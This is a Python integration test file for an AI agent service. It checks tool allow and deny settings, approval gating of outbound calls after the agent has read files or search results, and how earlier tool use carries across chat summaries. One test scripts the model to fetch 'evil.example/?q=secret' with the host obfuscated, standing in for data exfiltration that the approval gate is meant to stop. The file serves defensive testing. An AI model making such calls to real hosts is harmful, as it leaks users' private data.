"""Tools that a model is offered, and calls that wait for the user, as the agent and the services have it."""

import json
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any, Literal
from uuid import UUID, uuid4

import httpx
import openai
import pytest
from pydantic_ai import DeferredToolRequests
from pydantic_ai.messages import ModelMessage, ModelRequest, ModelResponse, ToolCallPart, ToolReturnPart, UserPromptPart
from pydantic_ai.models.openai import OpenAIChatModel
from pydantic_ai.providers.openai import OpenAIProvider

from jobs.run import turns
from leaf import config, errors, outbound
from leaf.agent import agents, approval
from leaf.agent.deps import Deps
from leaf.db import Actor, models, transaction
from leaf.db.models import MessageRole, MessageStatus
from leaf.services import chats, conversations
from leaf.services.files import ChatFiles
from tests.integration.drive_google import Kept, NoGrant
from tests.integration.people import end
from tests.integration.test_sandbox_model_wire import serve
from tests.integration.web_fixtures import World

PAGE = "https://orchard.example/apples"


@pytest.fixture(scope="module")
def base() -> Iterator[str]:
    yield from serve()


@pytest.fixture
def log(base: str) -> Callable[[], list[dict[str, Any]]]:
    """The requests to the model from now on."""
    httpx.delete(f"{base}/sandbox/model/requests").raise_for_status()
    return lambda: httpx.get(f"{base}/sandbox/model/requests").json()


@pytest.fixture
async def model(base: str) -> AsyncIterator[OpenAIChatModel]:
    async with openai.AsyncOpenAI(base_url=f"{base}/openai/v1", api_key="any", max_retries=0) as client:
        yield OpenAIChatModel("sandbox-script", provider=OpenAIProvider(openai_client=client))


def _deps(**further: Any) -> Deps:
    return Deps(uuid4(), uuid4(), NoGrant(), Kept(), ChatFiles(Actor.system(), uuid4()), **further)


def _read(*tools: str) -> list[ModelMessage]:
    """A turn in which these tools were used."""
    messages: list[ModelMessage] = [ModelRequest(parts=[UserPromptPart("And?")])]
    for tool in tools:
        content = {"results": [], "file": {"url": PAGE}}
        messages.append(ModelResponse(parts=[ToolCallPart(tool, {}, tool)]))
        messages.append(ModelRequest(parts=[ToolReturnPart(tool, content, tool)]))
    return messages


def _call(name: str, **arguments: Any) -> str:
    return json.dumps([{"calls": [{"name": name, "arguments": arguments}]}, {"text": "Done."}])


@pytest.mark.parametrize(
    ("settings", "offered", "missing"),
    [
        ({}, {"fetch", "read_drive_file"}, {"askQuestion"}),
        ({"LEAF_ASK_QUESTION": "true"}, {"fetch", "askQuestion"}, set[str]()),
        ({"LEAF_DISALLOWED_TOOLS": "fetch, write_file"}, {"read_drive_file"}, {"fetch", "write_file"}),
        ({"LEAF_ALLOWED_TOOLS": "read_file,grep"}, {"read_file", "grep"}, {"fetch", "read_drive_file", "write_file"}),
    ],
)
async def test_a_tool_that_is_not_allowed_is_never_offered(
    model: OpenAIChatModel, log: Callable[[], list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch,
    settings: dict[str, str], offered: set[str], missing: set[str],
) -> None:  # fmt: skip
    """And where a model calls it all the same, there is no such tool. # 001-24"""
    monkeypatch.setattr(config, "_current", config.Settings(_env_file=None, **settings))  # type: ignore[arg-type]
    unknown = min(missing - {"askQuestion"}, default="nothing")
    result = await agents.build().run(_call(unknown, path="a.md", content="a", url=PAGE), model=model, deps=_deps())
    requests = log()
    assert len(requests) == 2
    for request in requests:
        assert offered <= set(request["tools"])
        assert not missing & set(request["tools"])
    assert "Unknown tool name" in str(result.new_messages()[2].parts[0])


@pytest.mark.parametrize("approvals", [True, False])
async def test_a_call_that_could_send_something_waits(
    model: OpenAIChatModel, monkeypatch: pytest.MonkeyPatch, approvals: bool
) -> None:
    """A host that does not resolve stands for one that is asked: nothing listens under `.example`."""
    monkeypatch.setattr(config, "_current", config.Settings(_env_file=None))
    script = _call("fetch", url="https://evil.example/?q=secret").replace("evil", "\\u0065vil")
    history = _read("read_drive_file", "search")
    result = await agents.build().run(script, model=model, deps=_deps(approvals=approvals), message_history=history)
    if not approvals:
        assert result.output == "Done."
        return
    assert isinstance(result.output, DeferredToolRequests)
    (call,) = result.output.approvals
    assert "evil.example" in result.output.metadata[call.tool_call_id]["reason"]


@pytest.mark.parametrize(
    ("read", "looks"), [(("search",), True), (("read_drive_file",), False), (("search", "read_drive_file"), False)]
)
async def test_a_card_is_made_without_a_look_that_could_send_something(
    model: OpenAIChatModel, monkeypatch: pytest.MonkeyPatch, read: tuple[str, ...], looks: bool
) -> None:
    """The address stands in a file, so the card may lead there; nobody has named its host."""
    monkeypatch.setattr(config, "_current", config.Settings(_env_file=None))
    asked: list[str] = []

    async def preview(address: str) -> outbound.Preview:
        asked.append(address)
        raise errors.NotFound("page")

    history = _read(*read)
    script = _call("displayLinkPreview", url=PAGE).replace("orchard", "\\u006frchard")
    deps = _deps(preview=preview)
    result = await agents.build().run(script, model=model, deps=deps, message_history=history)
    assert result.output == "Done."
    assert asked == ([PAGE] if looks else [])


@pytest.fixture
async def ada(world: World) -> Any:
    async with world.browser("ada") as browser:
        yield await browser.actor()


@pytest.mark.parametrize("kind", ["tool-read_drive_file", "dynamic-tool"])
async def test_a_run_knows_the_tools_of_turns_that_a_summary_stands_for(
    ada: Actor, kind: Literal["tool-read_drive_file", "dynamic-tool"]
) -> None:
    chat_id = await chats.new(ada)
    part = {"type": kind, "toolCallId": "1", "state": "output-available", "input": {}, "output": {}}
    part |= {"toolName": "read_drive_file"} if kind == "dynamic-tool" else {}
    async with transaction(ada) as tx:
        common: dict[str, Any] = {"chat_session_id": chat_id, "user_id": ada.user_id}
        question = models.Message(role=MessageRole.USER, parts=[{"type": "text", "text": "Read."}], **common)
        tx.session.add(question)
        await tx.session.flush()
        answer = models.Message(
            parent_id=question.id, role=MessageRole.ASSISTANT, status=MessageStatus.COMPLETED, workflow_run_id=uuid4(),
            parts=[part], model="sandbox:sandbox", **common,
        )  # fmt: skip
        tx.session.add(answer)
        await tx.session.flush()
        tx.session.add(models.ChatSummary(message_id=answer.id, text="They read a file.", **common))
    turn = await conversations.ask(ada, chat_id, "And now?")
    assert turn.assistant.run_id is not None
    task = await conversations.assignment(turn.assistant.run_id)
    assert task is not None
    assert task.history == []
    assert task.earlier_tools == {"read_drive_file"}
    assert task.approvals
    await end(turn.assistant.run_id)


async def test_a_summary_takes_over_the_tools_of_the_one_before_it(ada: Actor) -> None:
    """Its own turns are looked through once, when it is made; earlier ones are not read again."""
    chat_id = await chats.new(ada)
    read, opened = "tool-read_drive_file", "tool-open_page"
    common: dict[str, Any] = {"chat_session_id": chat_id, "user_id": ada.user_id}
    before: UUID | None = None
    async with transaction(ada) as tx:
        for kind in (read, opened):
            question = models.Message(
                parent_id=before, role=MessageRole.USER, parts=[{"type": "text", "text": "Go on."}], **common
            )
            tx.session.add(question)
            await tx.session.flush()
            call = {"type": kind, "toolCallId": "1", "state": "output-available", "input": {}, "output": {}}
            answer = models.Message(
                parent_id=question.id, role=MessageRole.ASSISTANT, status=MessageStatus.COMPLETED,
                workflow_run_id=uuid4(), parts=[call], model="sandbox:sandbox", **common,
            )  # fmt: skip
            tx.session.add(answer)
            await tx.session.flush()
            tx.session.add(models.ChatSummary(message_id=answer.id, text=f"They did {kind}.", **common))
            await tx.session.flush()
            before = answer.id
    turn = await conversations.ask(ada, chat_id, "And now?")
    assert turn.assistant.run_id is not None
    task = await conversations.assignment(turn.assistant.run_id)
    assert task is not None
    assert task.earlier_tools == {"read_drive_file", "open_page"}
    assert task.summary is not None
    assert task.summary.text == f"They did {opened}."
    async with transaction(ada, read_only=True) as tx:
        found = (await tx.call("leaf_path", turn.assistant.id, [], False)).all()
        whole = (await tx.call("leaf_path", turn.assistant.id, [], True)).all()
    assert ([one.covered for one in found], [one.covered for one in whole]) == ([True, False], [True] * 4 + [False])
    await end(turn.assistant.run_id)


async def test_a_chat_from_a_file_is_known_to_be_read_once_it_was_summarised(ada: Actor) -> None:
    """No part of its messages is a tool's, but all of it was given to the model as what others wrote. # 003-35"""
    chat_id = await chats.new(ada)
    async with transaction(ada) as tx:
        common: dict[str, Any] = {"chat_session_id": chat_id, "user_id": ada.user_id}
        question = models.Message(role=MessageRole.USER, parts=[{"type": "text", "text": "Rent?"}], **common)
        tx.session.add(question)
        await tx.session.flush()
        answer = models.Message(
            parent_id=question.id, role=MessageRole.ASSISTANT, status=MessageStatus.COMPLETED, workflow_run_id=uuid4(),
            parts=[{"type": "text", "text": "900."}], model_messages=turns.imported("Rent?", "900."),
            model="sandbox:sandbox", **common,
        )  # fmt: skip
        tx.session.add(answer)
        await tx.session.flush()
        tx.session.add(models.ChatSummary(message_id=answer.id, text="They spoke of rents.", **common))
    turn = await conversations.ask(ada, chat_id, "And now?")
    assert turn.assistant.run_id is not None
    task = await conversations.assignment(turn.assistant.run_id)
    assert task is not None
    assert approval.taint([], task.earlier_tools).both
    await end(turn.assistant.run_id)


async def test_a_chat_that_waits_says_so_in_the_list_and_can_be_asked_again(ada: Actor) -> None:
    """# 002-17"""
    chat_id = await chats.new(ada)
    turn = await conversations.ask(ada, chat_id, "Which one?")
    question = {"type": "tool-askQuestion", "toolCallId": "q", "state": "input-available", "input": {"question": "?"}}
    async with transaction(ada) as tx:
        row = await tx.session.get_one(models.Message, turn.assistant.id)
        row.status, row.parts, row.model_messages = MessageStatus.WAITING, [question], []
    (entry,) = (await chats.page(ada)).rows
    assert (entry.waiting, entry.running) == (True, False)
    assert (await chats.open(ada, chat_id)).messages[-1].user_id == ada.user_id
    again = await conversations.retry(ada, turn.assistant.id)
    assert (again.assistant.status, again.assistant.parts) == ("pending", [])
    (entry,) = (await chats.page(ada)).rows
    assert (entry.waiting, entry.running) == (False, True)
